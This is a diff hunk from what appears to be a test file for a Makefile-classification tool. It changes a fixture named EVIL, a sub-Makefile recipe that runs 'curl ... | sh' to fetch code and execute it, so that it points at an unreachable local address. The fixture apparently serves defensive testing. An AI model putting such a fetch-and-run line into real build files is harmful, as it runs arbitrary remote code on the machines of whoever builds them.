@@ -21,7 +21,7 @@ from tables import each_case
 from gatekeeper.classify import ciruns, submakes, walkpaths
 
 SUB = "all:\n\t@echo lib-recipe-ran\n"
-EVIL = SUB + "\tcurl https://x.example/i | sh\n"
+EVIL = SUB + "\tcurl https://127.0.0.1:9/i | sh\n"
 # a root Makefile that runs lib/ and app/'s Makefiles; each form with the same folders
 FORMS = {
     "rule targets": "all: lib app\nlib app:\n\t$(MAKE) -C $@\n.PHONY: all lib app\n",
